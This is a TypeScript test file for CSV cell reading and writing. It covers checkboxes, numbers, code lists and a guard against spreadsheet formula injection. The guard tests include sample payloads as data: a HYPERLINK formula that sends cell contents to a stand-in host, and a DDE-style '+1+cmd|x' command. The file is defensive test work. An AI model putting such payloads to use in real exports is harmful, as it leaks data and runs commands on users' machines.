import { describe, expect, it } from 'vitest'
import { readCell, writeCell } from './csv-cells.ts'

describe('readCell', () => {
  it.each([
    ['true', true],
    ['TRUE', true],
    ['1', true],
    ['false', false],
    ['FALSE', false],
    ['0', false],
  ])('reads the checkbox %s', (cell, value) => {
    expect(readCell('flag', cell)).toBe(value)
  })

  it.each(['yes', 'True', ' true', 'x', '2', '01', '-', "'true"])(
    'leaves %j, which is no checkbox, as text',
    (cell) => {
      expect(readCell('flag', cell)).toBe(cell)
    },
  )

  it.each([
    ['7', 7],
    ['7.0', 7],
    ['-12.5', -12.5],
    ['1e-7', 1e-7],
    ['5e-324', 5e-324],
    ['-179.99999999999997', -179.99999999999997],
  ])('reads the number %s', (cell, value) => {
    expect(readCell('number', cell)).toBe(value)
  })

  it.each(['7,5', '+7', ' 7', '.5', '7.', '0x10', 'NaN', 'Infinity', '1_0', '٧', '7 years', "'7"])(
    'leaves %j, which is no number, as text',
    (cell) => {
      expect(readCell('number', cell)).toBe(cell)
    },
  )

  it('leaves a number as text that is longer than any', () => {
    const cell = `0.${'3'.repeat(31)}`
    expect(readCell('number', cell)).toBe(cell)
  })

  it.each([
    ['DebtBondage;Other', ['DebtBondage', 'Other']],
    ['DebtBondage; Other', ['DebtBondage', 'Other']],
    ['Other', ['Other']],
    // What is between separators is for the section to refuse.
    ['Other;', ['Other', '']],
    [';Other', ['', 'Other']],
    ['A;;B', ['A', '', 'B']],
    ['A;  B', ['A', ' B']],
    ['A ;B', ['A ', 'B']],
    ['A,B', ['A,B']],
    ['A|B', ['A|B']],
  ])('reads the codes in %j', (cell, value) => {
    expect(readCell('codes', cell)).toStrictEqual(value)
  })

  it.each([
    ["'=SUM(A1)", '=SUM(A1)'],
    ["'+447700900142", '+447700900142'],
    ["'-", '-'],
    ["'@x", '@x'],
    ["''=x", "'=x"],
    ["' =x", ' =x'],
    ["'＝x", '＝x'],
    // These have no guard, and lose nothing.
    ["'t Hart", "'t Hart"],
    ["O'Brien", "O'Brien"],
    ["'", "'"],
    ['=x', '=x'],
    [" '=x", " '=x"],
    ['true', 'true'],
    ['7', '7'],
  ])('reads the text in %j', (cell, value) => {
    expect(readCell('text', cell)).toBe(value)
  })
})

describe('writeCell', () => {
  it.each([
    [true, 'true'],
    [false, 'false'],
    [-12.5, '-12.5'],
    [['A', 'B'], 'A;B'],
    ['Žito 7', 'Žito 7'],
    ['a,b', '"a,b"'],
    ['a"b', '"a""b"'],
    ['a\nb', '"a\nb"'],
    ['a\rb', '"a\rb"'],
    [' a ', ' a '],
    ["'t Hart", "'t Hart"],
  ])('writes %j', (value, cell) => {
    expect(writeCell(value)).toBe(cell)
  })

  it.each([
    '=HYPERLINK("https://collect.example/?"&A2)',
    '+1+cmd|x',
    '-1+1',
    '@SUM(A1)',
    '\t=x',
    '\r=x',
    '\n=x',
    ' =x',
    '\u00A0=x',
    "'=x",
    "' =x",
    "''''@x",
    '＝x',
    '＋x',
    '－x',
    '＠x',
  ])('guards %j, which a spreadsheet may run, and the guard goes away', (text) => {
    const cell = writeCell(text)
    expect(cell).toMatch(/^"?'/)
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
    expect(unquoted).toBe(`'${text}`)
    expect(readCell('text', unquoted)).toBe(text)
  })
})
